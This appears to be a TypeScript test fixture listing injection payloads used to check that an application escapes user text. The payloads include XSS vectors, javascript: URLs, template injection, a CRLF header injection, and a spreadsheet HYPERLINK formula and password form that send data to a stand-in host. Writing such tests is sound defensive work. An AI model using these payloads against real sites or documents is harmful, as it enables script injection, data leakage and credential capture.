// Texts that try to become something else: markup, a script, an address that is a script, a formula, or other characters than one sees.

/** The visible part, by which a page is known to show the text. */
export const mark = 'xmarkx'

/** The trace that a text leaves if it runs. */
export const trace = '__attacked'

const act = `window.${trace}=1`

/** Short ones first: fields have limits. */
export const payloads: readonly string[] = [
  `${mark}<b>`,
  `<s>${mark}</s>`,
  `=${mark}()`,
  `<img src=x onerror=${act}>${mark}`,
  `"><script>${act}</script>${mark}`,
  `'><svg onload=${act}>${mark}`,
  `</script><script>${act}</script>${mark}`,
  `</title></textarea><img src=x onerror=${act}>${mark}`,
  `{{constructor.constructor('${act}')()}}\${${act}}${mark}`,
  `[${mark}](javascript:${act}) ![x](x"onerror="${act})`,
  `javascript:${act}//${mark}`,
  `data:text/html,<script>${act}</script>${mark}`,
  `=HYPERLINK("http://outside.invalid/"&A1,"${mark}")`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>${mark}`,
  `<a href="javascript:${act}" target=_blank>${mark}</a>`,
  `<style>@import "http://outside.invalid/${mark}";</style><link rel=stylesheet href=//outside.invalid>${mark}`,
  `<meta http-equiv=refresh content="0;url=http://outside.invalid/">${mark}`,
  `<form action=http://outside.invalid/><input name=password></form>${mark}`,
  `__proto__ constructor ${mark} %00 %0d%0aSet-Cookie:vostro=1`,
]

/** All in one, for answers that no limit applies to. The marks of direction never come through the API, but may come from partners. */
export const everything = `${payloads.slice(3).join(' ')} \u202e${mark}\u202c`

/** What an address must never turn into. */
export const scriptAddress = `javascript:${act}//${mark}`

/** The longest payloads that fit come in turn, so that fields get different ones. */
export function payloadFor(number: number, fits: (text: string) => boolean): string | undefined {
  const fitting = payloads.filter(fits)
  return fitting[number % Math.max(1, fitting.length)]
}
